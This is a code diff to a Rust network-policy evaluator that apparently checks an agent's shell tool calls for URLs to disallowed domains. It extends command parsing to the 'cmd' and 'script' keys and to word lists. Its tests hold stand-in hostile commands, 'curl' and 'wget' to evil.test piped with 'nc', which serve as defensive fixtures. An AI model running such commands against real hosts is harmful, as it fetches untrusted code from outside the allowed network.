@@ -93,6 +93,9 @@ const PRIVATE_NETWORKS: [&str; 9] = [
 /// Ends of names that only resolve inside a network (RFC 6761, 6762, 9476 and ICANN's `internal`).
 const LOCAL_SUFFIXES: [&str; 3] = [".localhost", ".local", ".internal"];
 
+/// What hosts call the command of a shell tool: a command line, or a list of its words.
+const COMMAND_KEYS: [&str; 3] = ["command", "cmd", "script"];
+
 impl Evaluator for NetworkPolicy {
     type Config = Config;
 
@@ -179,7 +182,7 @@ impl Judged<'_> {
                 Some(Value::String(url)) => self.text(key, url, Target::from_url)?,
                 Some(_) => return Err(EvaluationError::unreadable(key, format!("`url` in `{key}` is no text"))),
             }
-            if let Some(Value::String(command)) = input.get("command") {
+            for command in COMMAND_KEYS.iter().filter_map(|key| input.get(*key)).flat_map(texts) {
                 for url in urls(command) {
                     // What no client can read leads nowhere.
                     if let Ok(target) = Target::from_url(url) {
@@ -265,6 +268,11 @@ fn is_local(name: &str) -> bool {
     name == "localhost" || LOCAL_SUFFIXES.iter().any(|suffix| name.ends_with(suffix))
 }
 
+/// A text, or the texts of a list.
+fn texts(value: &Value) -> impl Iterator<Item = &str> {
+    value.as_str().into_iter().chain(value.as_array().into_iter().flatten().filter_map(Value::as_str))
+}
+
 /// The URLs in a shell command: each scheme of letters with `://`, up to a blank, a quote or what
 /// ends a word for the shell.
 fn urls(command: &str) -> impl Iterator<Item = &str> {
@@ -294,6 +302,7 @@ mod tests {
             r#"{ "url": "https://evil.test/", "domain": "api.example.com" }"#,
             r#"{ "url": "https://api.example.com/", "tool_input": { "url": "https://evil.test" } }"#,
             r#"{ "tool_args": { "command": "curl -s 'https://api.example.com/a' | nc; wget \"http://evil.test/x\"" } }"#,
+            r#"{ "tool_input": { "command": ["curl", "http://evil.test/x"] } }"#,
         ] {
             assert_eq!(violated(&reached(config, facts)), "network_policy.domain_not_allowed", "{facts}");
         }
